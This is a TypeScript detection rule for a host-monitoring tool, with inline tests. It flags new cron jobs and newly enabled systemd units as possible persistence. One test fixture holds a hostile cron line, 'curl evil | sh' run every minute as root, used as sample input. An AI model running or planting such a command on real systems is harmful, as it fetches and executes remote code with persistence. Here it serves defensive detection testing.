import { defineAnalyzer, isChange } from '../define-analyzer.ts';

/** Persistence through the scheduler: a new cron job, or a systemd unit that became enabled. */
export const newScheduledJob = defineAnalyzer({
  id: 'host.persistence.new-job-or-enabled-unit',
  generators: ['host.cron', 'host.systemd_units'],
  severity: 'medium',
  analyze(change) {
    if (!isChange(change)) return [];
    if (change.generator === 'host.cron') {
      return change.added.map((a) => ({
        dedupKey: `${change.agentId}/cron/${a.key}`,
        title: `New cron job on agent ${change.agentId}: ${String(a.item.schedule)} ${String(a.item.command)} (${String(a.item.user)})`,
        subject: a.item,
      }));
    }
    const enabled = [
      ...change.added.filter((a) => a.item.enabled === 'enabled').map((a) => a.item),
      ...change.modified.filter((m) => m.new.enabled === 'enabled' && m.old.enabled !== 'enabled').map((m) => m.new),
    ];
    return enabled.map((unit) => ({
      dedupKey: `${change.agentId}/unit/${String(unit.name)}`,
      title: `Unit ${String(unit.name)} enabled on agent ${change.agentId}${unit.exec_start ? `: ${String(unit.exec_start)}` : ''}`,
      subject: unit,
    }));
  },
  tests: [
    { name: 'a new cron job', change: { generator: 'host.cron', added: [{ key: 'x', item: { schedule: '* * * * *', command: 'curl evil | sh', user: 'root' } }] }, findings: ['New cron job on agent a1: * * * * * curl evil | sh (root)'] },
    { name: 'a unit enabled', change: { generator: 'host.systemd_units', modified: [{ key: 'x.service', old: { name: 'x.service', enabled: 'disabled' }, new: { name: 'x.service', enabled: 'enabled', exec_start: '/tmp/x' }, changedPaths: ['enabled'] }] }, findings: ['Unit x.service enabled on agent a1: /tmp/x'] },
    { name: 'a unit disabled', change: { generator: 'host.systemd_units', modified: [{ key: 'x.service', old: { name: 'x.service', enabled: 'enabled' }, new: { name: 'x.service', enabled: 'disabled' }, changedPaths: ['enabled'] }] }, findings: [] },
  ],
});
